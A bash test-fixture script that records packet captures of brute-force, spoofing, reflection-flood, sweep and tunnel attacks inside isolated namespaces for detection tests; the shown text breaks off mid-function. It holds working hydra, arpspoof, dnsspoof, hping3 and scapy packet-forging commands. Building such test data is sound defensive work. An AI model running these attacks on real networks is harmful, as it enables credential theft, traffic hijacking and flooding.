#!/usr/bin/env bash
# Records real intrusion captures (password guessing, ARP spoofing, reflection, sweeps and tunnels) and a
# healthy one for the detection tests.
#
# usage: make-intrusion-captures.sh OUTDIR
#
# Five private network namespaces (IPv4 only). Four hosts are joined by veth pairs to a bridge that lives in
# the fifth, so they share one Ethernet segment 10.97.0.0/24 with fixed MAC addresses 02:97:00:00:00:<host>:
#   gateway  10.97.0.1   (answers pings; the victim's default route, forwards nothing)
#   victim   10.97.0.10  (plus 10.97.1.1-30 for the ping sweep) runs sshd on port 22, nginx on port 80 with
#                        basic authentication on /admin/, vsftpd on port 21 and dnsmasq on port 53
#   client   10.97.0.20  (the healthy scenario's user)
#   attacker 10.97.0.66  (routes 10.97.1.0/24 through the victim, so unanswered sweep probes still reach it)
# A test user exists only for the victim's daemons: they run in a private mount namespace that binds copies
# of passwd, shadow and group (with the user added) over /etc, so the machine's own accounts stay untouched.
# tcpdump captures the victim's interface into OUTDIR/<scenario>.pcap while one scenario runs; the server
# logs of the scenario go to OUTDIR/logs/<scenario>.txt with the tools' output, and OUTDIR/manifest.tsv lists
# the scenarios and the finding kind each should produce ("none" for the healthy one):
#   healthy-logins     5 ssh logins (sshpass, one command each), 5 HTTP fetches with the right basic-auth
#                      credentials, 5 DNS lookups and 5 pings from the client, about one a second
#   hydra-ssh          hydra against sshd: 40 wrong passwords, then the right one (sshd lets a connection
#                      try 6, so about 9 connections)
#   hydra-http         hydra http-get against nginx's /admin/: 60 wrong passwords, then the right one
#   hydra-ftp          hydra against vsftpd: 40 wrong passwords, then the right one (PAM answers a wrong
#                      one after about 2 s; 3 tries a connection)
#   arpspoof           dsniff's arpspoof tells the victim for 8 s that 10.97.0.1 is at the attacker's MAC
#                      while the victim pings the gateway once a second
#   dns-reflection     scapy: 2000 forged DNS responses (no query was sent) from 50 spoofed reflectors
#                      10.97.200.1-50 to random ports in 3 s, the TXT ones (2.6 KB) IP-fragmented
#   synack-reflection  hping3: 3000 SYN-ACKs from random sources, source port 80 or 443, that the victim
#                      never asked for (it answers each with a reset)
#   ping-sweep         nmap -sn -PE of 10.97.1.1-60: 30 addresses answer, 30 do not
#   icmp-tunnel        scapy: 300 echo requests carrying 40-1000 random bytes each, answered by the victim
#   http-502           nginx proxies /shop/ to a backend that is down: the client gets 502 Bad Gateway 8 times
#                      and the home page (200) 4 times
#   tls-untrusted      openssl s_server (TLS 1.2 only) with a self-signed certificate; curl refuses it 5 times
#   tls-version        openssl s_server (TLS 1.3 only); curl offers at most TLS 1.2, 5 times
#   slow-server        nginx proxies /report/ to a backend (python) that takes 1.5 s an answer; 4 fetches
#   slow-client        the client connects to nginx and waits 2 s before each of its 3 requests
#   slow-network       the link to the victim shaped to 2 Mbit/s with a 0.8 s queue (tc tbf on the bridge), filled by
#                      an upload from the attacker's host: the client fetches the home page 4 times behind it
#   zero-window        the client asks nginx for 8 MB with a 4 KB receive buffer and does not read for 4 s
#   tcp-stall          iptables in the client drops everything from nginx 1 s into a slowly read download
#   beacon             the client fetches the victim's home page every 1.5 s, 12 times, as a scheduled job does
#   dns-spoof          dsniff's dnsspoof, on a bridge that floods every frame (as Wi-Fi does), answers the
#                      client's queries for www and mail.example.test with the attacker's address, racing the
#                      victim's dnsmasq; captured at the client
#   dns-hijack         a second dnsmasq on the gateway answers every name with 10.97.0.99, TTL 0, as redirecting
#                      resolvers do; the client asks it for 6 names of unrelated unknown domains (captured at the client)
#   dead-gateway       the client's default route via the gateway, which forwards nothing: dig to 198.51.100.53
#                      and 203.0.113.53, curl to 192.0.2.80, all unanswered (captured at the client)
#   no-route           the gateway forwards but has no route beyond the segment: curl to three web servers in
#                      three networks, each answered with ICMP network unreachable (captured at the client)
#   dns-tunnel         iodine through iodined when /dev/net/tun works in the namespaces (pings, an HTTP upload
#                      and a download through the tunnel: NULL queries under t.tunnel.test); otherwise 400
#                      dig queries (TXT, NULL, CNAME) with two long base32 labels under t.tunnel.test
#
# Nothing outside the namespaces this script creates is touched: every address lives inside them, forged
# sources are answered through the gateway's namespace, where the answers end (it forwards nothing), and
# every tool is bounded in packets and time.
# It takes about 180 s (the bound is 280 s). For work on one scenario, NT_INTRUSIONS_ONLY="name ..." records
# only those, and NT_INTRUSIONS_NO_TUN=1 takes the dig variant of dns-tunnel.
# Exit status: 0 when every capture was made and shows its traffic; 77 when this machine cannot run it (not
# root, no network namespaces, a tool missing: the last line on standard error says why); 1 on a failure.
set -euo pipefail

# skip, fail and the other helpers the capture scripts share
# shellcheck source=lib/netns.sh
source "$(dirname "$0")/lib/netns.sh"
run_bounded NT_INTRUSIONS_BOUNDED 280 "$@"

note() { echo "make-intrusion-captures: $*" >&2; }

[ $# -eq 1 ] || { echo "usage: $0 OUTDIR" >&2; exit 2; }
[ "$(id -u)" -eq 0 ] || skip "must run as root (network namespaces, tcpdump and the daemons need it)"
missing=()
for tool in ip tc ss sysctl tcpdump timeout unshare mount openssl nginx dnsmasq dig curl ping nmap hping3 hydra sshd ssh \
    ssh-keygen sshpass vsftpd arpspoof dnsspoof iodine iodined; do
  command -v "$tool" >/dev/null 2>&1 || missing+=("$tool")
done
# Debian's python3-scapy serves the system's python3, which may not be the first python3 on the PATH.
PYTHON=""
for candidate in /usr/bin/python3 python3; do
  if command -v "$candidate" >/dev/null 2>&1 && "$candidate" -c 'import scapy.all' >/dev/null 2>&1; then
    PYTHON=$(command -v "$candidate")
    break
  fi
done
[ -n "$PYTHON" ] || missing+=("scapy (python3 -c 'import scapy')")
[ ${#missing[@]} -eq 0 ] || skip "missing tools: ${missing[*]}"
SSHD=$(command -v sshd)
VSFTPD=$(command -v vsftpd)
readonly PYTHON SSHD VSFTPD

prepare_out "$1"

readonly SUFFIX=$$
readonly NS_L="nt-intr-lan-$SUFFIX" NS_G="nt-intr-gw-$SUFFIX" NS_V="nt-intr-victim-$SUFFIX" \
  NS_C="nt-intr-client-$SUFFIX" NS_A="nt-intr-attacker-$SUFFIX"
readonly GATEWAY_IP=10.97.0.1 VICTIM_IP=10.97.0.10 CLIENT_IP=10.97.0.20 ATTACKER_IP=10.97.0.66
readonly GATEWAY_MAC=02:97:00:00:00:01 VICTIM_MAC=02:97:00:00:00:10 CLIENT_MAC=02:97:00:00:00:20 \
  ATTACKER_MAC=02:97:00:00:00:66
readonly TEST_USER=triage TEST_UID=61097 TEST_PASSWORD=Correct-Horse-97
readonly WEB_USER=admin WEB_PASSWORD=Battery-Staple-97
readonly TMP_ROOT=${TMPDIR:-/tmp}
WORK=$(mktemp -d "$TMP_ROOT/nt-intr-$SUFFIX.XXXXXX")
readonly WORK
declare -A PIDS=()
# The daemons (nginx, sshd, dnsmasq) serve every scenario up to the last, so they live as long as the script.
readonly BG_SECONDS=280
# hydra keeps its restore file in the current folder.
cd "$WORK"

trap 'end_run $? "$NS_A" "$NS_C" "$NS_V" "$NS_G" "$NS_L"' EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

remove_stale_runs 'nt-intr-(lan|gw|victim|client|attacker)' nt-intr-

in_ns() { local ns=$1; shift; timeout 60 ip netns exec "$ns" "$@"; }

# --- topology ---------------------------------------------------------------------------------------
err=$(timeout 10 ip netns add "$NS_L" 2>&1) || skip "cannot create a network namespace (ip netns add: $err)"
for ns in "$NS_G" "$NS_V" "$NS_C" "$NS_A"; do timeout 10 ip netns add "$ns"; done
for ns in "$NS_L" "$NS_G" "$NS_V" "$NS_C" "$NS_A"; do
  in_ns "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 \
    net.ipv4.ip_forward=0
  timeout 10 ip -n "$ns" link set lo up
done
# The victim takes the forged sources of the reflection scenarios as they come (no reverse-path filter).
in_ns "$NS_V" sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0
err=$(timeout 10 ip -n "$NS_L" link add br0 type bridge stp_state 0 forward_delay 0 2>&1) \
  || skip "cannot create a bridge in a network namespace ($err)"
timeout 10 ip -n "$NS_L" link set br0 up
# host namespace, interface, MAC address, IPv4 address
for host in "$NS_G g0 $GATEWAY_MAC $GATEWAY_IP" "$NS_V v0 $VICTIM_MAC $VICTIM_IP" \
    "$NS_C c0 $CLIENT_MAC $CLIENT_IP" "$NS_A a0 $ATTACKER_MAC $ATTACKER_IP"; do
  read -r ns dev mac addr <<<"$host"
  timeout 10 ip -n "$ns" link add "$dev" address "$mac" type veth peer name "p$dev" netns "$NS_L"
  timeout 10 ip -n "$NS_L" link set "p$dev" master br0 up
  timeout 10 ip -n "$ns" addr add "$addr/24" dev "$dev"
  timeout 10 ip -n "$ns" link set "$dev" up
done
for i in $(seq 1 30); do timeout 10 ip -n "$NS_V" addr add "10.97.1.$i/32" dev v0; done
timeout 10 ip -n "$NS_V" route add default via "$GATEWAY_IP"
timeout 10 ip -n "$NS_A" route add 10.97.1.0/24 via "$VICTIM_IP"
for ns in "$NS_G" "$NS_C" "$NS_A"; do
  in_ns "$ns" ping -c 1 -W 2 "$VICTIM_IP" >/dev/null 2>&1 || fail "$ns cannot reach the victim after setup"
done

# --- the test user, for the victim's daemons only ---------------------------------------------------
{ cat /etc/passwd; echo "$TEST_USER:x:$TEST_UID:$TEST_UID:NetTriage test user:/:/bin/sh"; } >"$WORK/passwd"
{ cat /etc/group; echo "$TEST_USER:x:$TEST_UID:"; } >"$WORK/group"
{
  echo "root:*:19000:0:99999:7:::"
  echo "$TEST_USER:$(openssl passwd -6 "$TEST_PASSWORD"):19000:0:99999:7:::"
} >"$WORK/shadow"
chmod 600 "$WORK/shadow"
# The command before a daemon's: a private mount namespace where the copies above are /etc's.
# shellcheck disable=SC2016 # expanded by the inner sh
readonly WITH_USER=(unshare --mount --propagation private sh -c \
  'mount --bind "$1" /etc/passwd && mount --bind "$2" /etc/shadow && mount --bind "$3" /etc/group && shift 3 && exec "$@"' \
  sh "$WORK/passwd" "$WORK/shadow" "$WORK/group")

# --- services on the victim -------------------------------------------------------------------------
wait_listening() {
  local flag=$1 port=$2
  for _ in $(seq 50); do
    [ -n "$(in_ns "$NS_V" ss "$flag" "sport = :$port")" ] && return 0
    sleep 0.1
  done
  fail "nothing listens on port $port in the victim namespace"
}

# sshd: password authentication without PAM (no login delay), host key of its own.
ssh-keygen -q -t ed25519 -N "" -f "$WORK/ssh_host_ed25519_key"
cat >"$WORK/sshd_config" <<EOF
Port 22
ListenAddress $VICTIM_IP
HostKey $WORK/ssh_host_ed25519_key
PidFile $WORK/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
PermitRootLogin no
AllowUsers $TEST_USER
StrictModes no
MaxStartups 20:30:60
LogLevel VERBOSE
EOF
# sshd's privilege separation folder (Debian creates it only when the service starts).
mkdir -p /run/sshd
chmod 755 /run/sshd
start_bg sshd "$NS_V" "${WITH_USER[@]}" "$SSHD" -D -e -f "$WORK/sshd_config"

# nginx: a page, and /admin/ behind basic authentication.
mkdir -p "$WORK/www/admin"
echo "welcome" >"$WORK/www/index.html"
echo "admin console" >"$WORK/www/admin/index.html"
head -c 24000 /dev/urandom | base64 >"$WORK/www/data.txt"
# A large file for the transfers that stop (tcp-zero-window, tcp-stall).
head -c 8000000 /dev/urandom >"$WORK/www/big.bin"
printf '%s:%s\n' "$WEB_USER" "$(openssl passwd -apr1 "$WEB_PASSWORD")" >"$WORK/htpasswd"
# The TLS scenarios' self-signed certificate (no authority the client trusts issued it).
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "$WORK/tls.key" -out "$WORK/tls.crt" \
  -days 30 -subj "/CN=shop.example.test" >/dev/null 2>&1 || fail "openssl cannot make a certificate"
cat >"$WORK/nginx.conf" <<EOF
user root;
worker_processes 1;
daemon off;
pid $WORK/nginx.pid;
error_log $WORK/nginx-error.log info;
events { worker_connections 512; }
http {
  access_log $WORK/nginx-access.log;
  client_body_temp_path $WORK/nginx-body;
  proxy_temp_path $WORK/nginx-proxy;
  fastcgi_temp_path $WORK/nginx-fastcgi;
  uwsgi_temp_path $WORK/nginx-uwsgi;
  scgi_temp_path $WORK/nginx-scgi;
  server {
    listen 80;
    default_type text/plain;
    root $WORK/www;
    location /admin/ {
      auth_basic "NetTriage admin";
      auth_basic_user_file $WORK/htpasswd;
    }
    # A shop behind nginx whose backend is down: nothing listens on the victim's port 9 (discard), so nginx
    # answers 502 Bad Gateway (the http-502 scenario).
    location /shop/ {
      proxy_pass http://127.0.0.1:9;
    }
    # A report page behind nginx whose backend takes 1.5 s to answer (the slow-server scenario starts it).
    location /report/ {
      proxy_pass http://127.0.0.1:8081;
    }
  }
}
EOF
start_bg web "$NS_V" nginx -p "$WORK" -e "$WORK/nginx-error.log" -c "$WORK/nginx.conf"

# vsftpd: local users through PAM (whose pam_unix waits about 2 s after a wrong password; vsftpd's own extra
# second is off to keep the scenario short), three failures per connection.
mkdir -p "$WORK/vsftpd-empty"
chmod 755 "$WORK/vsftpd-empty"
cat >"$WORK/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$VICTIM_IP
listen_port=21
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=$WORK/vsftpd-empty
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
session_support=NO
delay_failed_login=0
max_login_fails=3
xferlog_enable=YES
xferlog_std_format=NO
log_ftp_protocol=YES
vsftpd_log_file=$WORK/vsftpd.log
syslog_enable=NO
EOF
start_bg ftp "$NS_V" "${WITH_USER[@]}" "$VSFTPD" "$WORK/vsftpd.conf"

start_bg dns "$NS_V" dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root --bind-interfaces \
  --listen-address="$VICTIM_IP" --port=53 --pid-file="$WORK/dnsmasq.pid" --log-queries --log-facility=- \
  --address=/www.example.test/"$VICTIM_IP" --address=/mail.example.test/"$VICTIM_IP" \
  --address=/tunnel.test/"$VICTIM_IP" --local=/tunnel.test/ --txt-record=t.tunnel.test,ok
wait_listening -Hltn 22
wait_listening -Hltn 80
wait_listening -Hltn 21
wait_listening -Hlun 53

# --- the forging tool -------------------------------------------------------------------------------
# Builds the frames with scapy and sends them through a packet socket on the attacker's interface, paced
# over a given time. usage: forge.py dns-reflection|icmp-tunnel IFACE SRC_MAC DST_MAC SRC_IP DST_IP
cat >"$WORK/forge.py" <<'EOF'
import functools, operator, os, random, socket, sys, time
from scapy.all import DNS, DNSQR, DNSRR, ICMP, IP, UDP, Ether, Raw, fragment

mode, iface, src_mac, dst_mac, src_ip, dst_ip = sys.argv[1:7]
rng = random.Random(97)
eth = Ether(src=src_mac, dst=dst_mac)

def send_paced(groups, seconds):
    """Sends each group of frames back to back, the groups spread evenly over the given seconds."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    start = time.monotonic()
    frames = 0
    for i, group in enumerate(groups):
        delay = start + seconds * i / len(groups) - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        for frame in group:
            s.send(frame)
            frames += 1
    print(f"{mode}: sent {len(groups)} packets in {frames} frames in {time.monotonic() - start:.1f} s")

def chain(records):
    return functools.reduce(operator.truediv, records)

if mode == "dns-reflection":
    # What open resolvers send back when the attacker asks them, with the victim's address as the source,
    # for a big TXT record set (2.6 KB: two IP fragments) or a long list of addresses.
    txt_name, a_name = b"amp.reflect.test.", b"cdn.reflect.test."
    txt = bytes(DNS(qr=1, rd=1, ra=1, qd=DNSQR(qname=txt_name, qtype="TXT"), an=chain(
        [DNSRR(rrname=txt_name, type="TXT", ttl=300,
               rdata=[b"v=spf1 include:_spf%d.reflect.test " % i + b"x" * 200]) for i in range(10)])))
    addresses = bytes(DNS(qr=1, rd=1, ra=1, qd=DNSQR(qname=a_name, qtype="A"), an=chain(
        [DNSRR(rrname=a_name, type="A", ttl=60, rdata=f"192.0.2.{i + 1}") for i in range(24)])))
    groups = []
    for i in range(2000):
        body = txt if i % 2 == 0 else addresses
        body = rng.getrandbits(16).to_bytes(2, "big") + body[2:]
        packet = IP(src=f"10.97.200.{i % 50 + 1}", dst=dst_ip, id=rng.getrandbits(16)) / \
            UDP(sport=53, dport=rng.randint(1024, 65535)) / Raw(body)
        groups.append([bytes(eth / f) for f in fragment(packet, fragsize=1480)])
    send_paced(groups, 3.0)
elif mode == "icmp-tunnel":
    # A data channel: one echo identifier, consecutive sequence numbers, random bytes of varying size.
    groups = []
    for seq in range(300):
        payload = os.urandom(rng.randint(40, 1000))
        groups.append([bytes(eth / IP(src=src_ip, dst=dst_ip, id=rng.getrandbits(16)) /
                             ICMP(type=8, id=0x5154, seq=seq) / Raw(payload))])
    send_paced(groups, 3.0)
else:
    sys.exit(f"unknown mode {mode}")
EOF

# --- capture ----------------------------------------------------------------------------------------
# At the victim's interface, unless CAPTURE_NS and CAPTURE_DEV name another host's (the DNS answer scenarios
# capture at the client, where the answers arrive).
capture_start() {
  capture_on tcpdump "${CAPTURE_NS:-$NS_V}" "${CAPTURE_DEV:-v0}" "$1.pcap" 90
}

capture_stop() {
  sleep 1
  capture_off tcpdump "$1.pcap" "$OUT/logs/$1.txt"
}

# Packets of the current scenario's capture that match a tcpdump filter.
count() { tcpdump -n -r "$OUT/$SCENARIO.pcap" "$@" 2>/dev/null | wc -l; }

# Fails the scenario unless at least MIN packets of its capture match the filter.
expect() {
  local min=$1 what=$2; shift 2
  local n
  n=$(count "$@")
  echo "check: $n packets of $what (at least $min expected)" >>"$OUT/logs/$SCENARIO.txt"
  [ "$n" -ge "$min" ] || fail "$SCENARIO: only $n packets of $what in the capture (at least $min expected)"
}

# Appends what a daemon logged since the scenario began to the scenario's log.
server_log() {
  local file=$1
  { echo "--- ${file##*/}"; cat "$file" 2>/dev/null || true; } >>"$OUT/logs/$SCENARIO.txt"
}

logged() { "$@" >>"$OUT/logs/$SCENARIO.txt" 2>&1; }

printf 'scenario\tpcap\texpected_kind\tdescription\n' >"$WORK/manifest.tsv"

# One scenario: capture at the victim while its function runs, then check the capture.
run() {
  local scenario=$1 kind=$2 description=$3 action=$4 log
  if [ -n "${NT_INTRUSIONS_ONLY:-}" ] && [[ " $NT_INTRUSIONS_ONLY " != *" $scenario "* ]]; then return 0; fi
  SCENARIO=$scenario
  local started=$SECONDS
  : >"$OUT/logs/$scenario.txt"
  for log in sshd.out ftp.out dns.out web.out nginx-error.log vsftpd.log; do : >"$WORK/$log"; done
  capture_start "$scenario"
  "$action" || fail "$scenario: the tools failed (see $OUT/logs/$scenario.txt)"
  capture_stop "$scenario"
  "check_$action"
  printf '%s\t%s\t%s\t%s\n' "$scenario" "$scenario.pcap" "$kind" "$description" >>"$WORK/manifest.tsv"
  note "$scenario: $(count) packets, $(stat -c %s "$OUT/$scenario.pcap") bytes, $((SECONDS - started)) s"
}

# A list of common passwords, none of them right.
wordlist() {
  local n=$1 right=$2
  printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123 baseball \
    abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop 123321 mustang 1234567890 michael \
    654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm \
    asdfgh hunter buster soccer harley batman andrew tigger sunshine iloveyou 2000 charlie robert thomas \
    hockey ranger daniel starwars klaster 112233 george computer michelle jessica pepper 1111 zxcvbn \
    | head -n "$n"
  echo "$right"
}

# Succeeds when hydra reported the right password for the user.
hydra_found() { grep -Eq "login: $1 +password: $2\$" "$OUT/logs/$SCENARIO.txt"; }

# --- scenarios --------------------------------------------------------------------------------------
SSH_CLIENT=(ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
  -o PreferredAuthentications=password -o PubkeyAuthentication=no -o ConnectTimeout=5)

healthy_logins() {
  local i
  for i in $(seq 1 5); do
    logged in_ns "$NS_C" sshpass -p "$TEST_PASSWORD" "${SSH_CLIENT[@]}" "$TEST_USER@$VICTIM_IP" "echo login $i; id -un" \
      || return 1
    logged in_ns "$NS_C" curl -sS -f --max-time 5 -u "$WEB_USER:$WEB_PASSWORD" "http://$VICTIM_IP/admin/" || return 1
    logged in_ns "$NS_C" dig +short +tries=1 +timeout=2 @"$VICTIM_IP" www.example.test || return 1
    logged in_ns "$NS_C" ping -c 1 -W 2 "$VICTIM_IP" || return 1
    sleep 1
  done
  server_log "$WORK/sshd.out"
}
check_healthy_logins() {
  expect 5 "ssh connections" 'tcp dst port 22 and tcp[tcpflags] == tcp-syn'
  expect 5 "HTTP 200 answers" 'tcp src port 80 and tcp[((tcp[12] >> 4) * 4):4] == 0x48545450 and
    tcp[((tcp[12] >> 4) * 4) + 9:4] == 0x32303020'
  expect 5 "DNS answers" 'udp src port 53'
  expect 5 "echo replies" 'icmp[icmptype] == icmp-echoreply'
  [ "$(grep -c '^Accepted password for' "$OUT/logs/$SCENARIO.txt")" -eq 5 ] || fail "$SCENARIO: sshd did not accept 5 logins"
}

hydra_ssh() {
  wordlist 40 "$TEST_PASSWORD" >"$WORK/ssh-words.txt"
  # hydra tries passwords on a connection until sshd closes it (6 failures), then waits -w seconds (32 by
  # default) before it goes on: 3 s keep the scenario short.
  logged in_ns "$NS_A" hydra -I -t 4 -w 3 -f -l "$TEST_USER" -P "$WORK/ssh-words.txt" "ssh://$VICTIM_IP" || return 1
  server_log "$WORK/sshd.out"
  hydra_found "$TEST_USER" "$TEST_PASSWORD"
}
check_hydra_ssh() {
  expect 8 "ssh connections" 'tcp dst port 22 and tcp[tcpflags] == tcp-syn'
  [ "$(grep -c '^Failed password for' "$OUT/logs/$SCENARIO.txt")" -ge 30 ] || fail "$SCENARIO: sshd rejected too few passwords"
  grep -q '^Accepted password for' "$OUT/logs/$SCENARIO.txt" || fail "$SCENARIO: sshd accepted no password"
}

hydra_http() {
  wordlist 60 "$WEB_PASSWORD" >"$WORK/http-words.txt"
  logged in_ns "$NS_A" hydra -I -t 4 -w 10 -f -l "$WEB_USER" -P "$WORK/http-words.txt" "$VICTIM_IP" http-get /admin/ \
    || return 1
  server_log "$WORK/nginx-error.log"
  hydra_found "$WEB_USER" "$WEB_PASSWORD"
}
check_hydra_http() {
  expect 50 "401 answers" 'tcp src port 80 and tcp[((tcp[12] >> 4) * 4):4] == 0x48545450 and
    tcp[((tcp[12] >> 4) * 4) + 9:4] == 0x34303120'
  expect 1 "200 answers" 'tcp src port 80 and tcp[((tcp[12] >> 4) * 4):4] == 0x48545450 and
    tcp[((tcp[12] >> 4) * 4) + 9:4] == 0x32303020'
}

hydra_ftp() {
  wordlist 40 "$TEST_PASSWORD" >"$WORK/ftp-words.txt"
  # -w stays above PAM's delay, or hydra takes the slow refusals for lost answers.
  logged in_ns "$NS_A" hydra -I -t 4 -w 10 -f -l "$TEST_USER" -P "$WORK/ftp-words.txt" "ftp://$VICTIM_IP" || return 1
  server_log "$WORK/vsftpd.log"
  hydra_found "$TEST_USER" "$TEST_PASSWORD"
}
check_hydra_ftp() {
  expect 35 "'530 Login incorrect' answers" 'tcp src port 21 and tcp[((tcp[12] >> 4) * 4):4] == 0x35333020'
  expect 1 "'230 Login successful' answers" 'tcp src port 21 and tcp[((tcp[12] >> 4) * 4):4] == 0x32333020'
}

arpspoof_victim() {
  # The victim's first ping asks for the gateway's real address; arpspoof then claims it for 8 s and,
  # stopped, sends the real one back a few times.
  timeout 10 ip -n "$NS_V" neigh flush all
  in_ns "$NS_V" ping -c 14 -i 1 -W 1 "$GATEWAY_IP" >"$WORK/arp-ping.out" 2>&1 &
  PIDS[arp-ping]=$!
  sleep 1.5
  local status=0
  logged in_ns "$NS_A" timeout -s INT --kill-after=8 8 arpspoof -i a0 -t "$VICTIM_IP" "$GATEWAY_IP" || status=$?
  # The victim's pings are lost while its ARP entry points to the attacker, so ping fails: not a failure.
  wait "${PIDS[arp-ping]}" || true
  unset "PIDS[arp-ping]"
  cat "$WORK/arp-ping.out" >>"$OUT/logs/$SCENARIO.txt"
  timeout 10 ip -n "$NS_V" neigh >>"$OUT/logs/$SCENARIO.txt"
  # timeout reports 124 when it stopped arpspoof, as planned.
  [ "$status" -eq 124 ] || [ "$status" -eq 0 ]
}
check_arpspoof_victim() {
  expect 1 "ARP replies from the gateway's own MAC" "arp and ether src $GATEWAY_MAC and arp[6:2] == 2"
  expect 3 "ARP replies from the attacker claiming $GATEWAY_IP at its MAC" \
    "arp and ether src $ATTACKER_MAC and arp[6:2] == 2 and arp[14:4] == 0x0a610001 and arp[8:4] == 0x02970000 and arp[12:2] == 0x0066"
  expect 5 "echo requests to the gateway" "icmp[icmptype] == icmp-echo and dst host $GATEWAY_IP"
  # The victim's neighbour entry for the gateway is reset for the scenarios that follow.
  timeout 10 ip -n "$NS_V" neigh flush all
}

dns_reflection() {
  logged in_ns "$NS_A" "$PYTHON" "$WORK/forge.py" dns-reflection a0 "$ATTACKER_MAC" "$VICTIM_MAC" "$ATTACKER_IP" "$VICTIM_IP"
}
check_dns_reflection() {
  expect 1900 "DNS responses from port 53" 'udp src port 53 and ip[6:2] & 0x1fff == 0'
  expect 900 "trailing IP fragments" 'ip[6:2] & 0x1fff != 0'
  [ "$(count "udp dst port 53 and src host $VICTIM_IP")" -eq 0 ] || fail "$SCENARIO: the victim sent DNS queries"
}

synack_reflection() {
  local port status
  # hping3 exits 1 when probes got no answer (forged sources never get one).
  for port in 80 443; do
    status=0
    logged in_ns "$NS_A" hping3 -q -S -A -s "$port" -k -p ++20000 -i u1000 -c 1500 --rand-source "$VICTIM_IP" \
      || status=$?
    [ "$status" -eq 0 ] || [ "$status" -eq 1 ] || return 1
  done
}
check_synack_reflection() {
  expect 2900 "SYN-ACKs from ports 80 and 443" \
    'tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack) and (tcp src port 80 or tcp src port 443)'
}

ping_sweep() {
  logged in_ns "$NS_A" nmap -n -sn -PE --disable-arp-ping -T4 10.97.1.1-60
}
check_ping_sweep() {
  expect 60 "echo requests" 'icmp[icmptype] == icmp-echo and dst net 10.97.1.0/24'
  expect 30 "echo replies" 'icmp[icmptype] == icmp-echoreply and src net 10.97.1.0/24'
}

icmp_tunnel() {
  logged in_ns "$NS_A" "$PYTHON" "$WORK/forge.py" icmp-tunnel a0 "$ATTACKER_MAC" "$VICTIM_MAC" "$ATTACKER_IP" "$VICTIM_IP"
}
check_icmp_tunnel() {
  expect 300 "echo requests" 'icmp[icmptype] == icmp-echo'
  expect 290 "echo replies" 'icmp[icmptype] == icmp-echoreply'
}

# iodine needs a tun device in each namespace.
tun_works() {
  timeout 10 ip -n "$NS_V" tuntap add dev nttun mode tun 2>/dev/null || return 1
  timeout 10 ip -n "$NS_V" link delete nttun
}

dns_tunnel_iodine() {
  # iodined answers on the victim's port 53 in place of dnsmasq.
  stop_bg dns
  start_bg iodined "$NS_V" iodined -f -c -l "$VICTIM_IP" -p 53 -P tunnel-secret-97 10.97.250.1/27 t.tunnel.test
  wait_listening -Hlun 53
  start_bg iodine "$NS_A" iodine -f -r -P tunnel-secret-97 "$VICTIM_IP" t.tunnel.test
  # The tunnel's address is set before iodine has tuned its codecs and fragment size: wait for the end.
  local up=""
  for _ in $(seq 150); do
    if grep -q 'Connection setup complete' "$WORK/iodine.out"; then up=1; break; fi
    sleep 0.1
  done
  [ -n "$up" ] || { cat "$WORK/iodine.out" "$WORK/iodined.out" >>"$OUT/logs/$SCENARIO.txt"; return 1; }
  # Through the tunnel: pings, an upload (random bytes, refused by nginx once read) and a download.
  head -c 48000 /dev/urandom >"$WORK/upload.bin"
  logged in_ns "$NS_A" ping -c 5 -i 0.2 -W 5 10.97.250.1 || return 1
  logged in_ns "$NS_A" curl -sS --max-time 30 -H 'Expect:' --data-binary @"$WORK/upload.bin" -o /dev/null \
    -w 'uploaded %{size_upload} bytes, answer %{http_code}\n' http://10.97.250.1/upload || {
    # Why the tunnel's far end refused: what listens there, and nginx's own account.
    { in_ns "$NS_V" ss -ltnp; in_ns "$NS_V" ip -br addr; tail -20 "$WORK/nginx-error.log"; } >>"$OUT/logs/$SCENARIO.txt" 2>&1
    return 1
  }
  logged in_ns "$NS_A" curl -sS -f --max-time 30 -o /dev/null -w 'downloaded %{size_download} bytes\n' \
    http://10.97.250.1/data.txt || return 1
  stop_bg iodine
  stop_bg iodined
  cat "$WORK/iodine.out" "$WORK/iodined.out" >>"$OUT/logs/$SCENARIO.txt"
}

dns_tunnel_dig() {
  # Each query carries 35 random bytes as two base32 labels of 28 characters, as a tunnel's upstream data
  # would; dig sends them 25 at a time (one batch file each), every half second.
  local types=(TXT NULL CNAME TXT) n=0 name
  mkdir -p "$WORK/dig"
  while read -r name; do
    echo "@$VICTIM_IP +tries=1 +timeout=1 -t ${types[n % 4]} ${name:0:28}.${name:28}.t.tunnel.test" \
      >>"$WORK/dig/batch-$((n / 25 + 100))"
    n=$((n + 1))
  done < <(head -c 14000 /dev/urandom | base32 -w 56 | tr '[:upper:]' '[:lower:]')
  local batch
  for batch in "$WORK"/dig/batch-*; do
    in_ns "$NS_A" dig -f "$batch" >/dev/null || return 1
    sleep 0.45
  done
  echo "sent $n queries with dig" >>"$OUT/logs/$SCENARIO.txt"
  server_log "$WORK/dns.out"
}
check_dns_tunnel_iodine() {
  expect 300 "queries under t.tunnel.test" 'udp dst port 53'
  expect 300 "answers" 'udp src port 53'
}
check_dns_tunnel_dig() { check_dns_tunnel_iodine; }
beacon() {
  local i
  for i in $(seq 1 12); do
    logged in_ns "$NS_C" curl -sS -o /dev/null --max-time 2 -w 'check-in %{http_code}\n' "http://$VICTIM_IP/" || return 1
    [ "$i" -eq 12 ] || sleep 1.5
  done
}
check_beacon() {
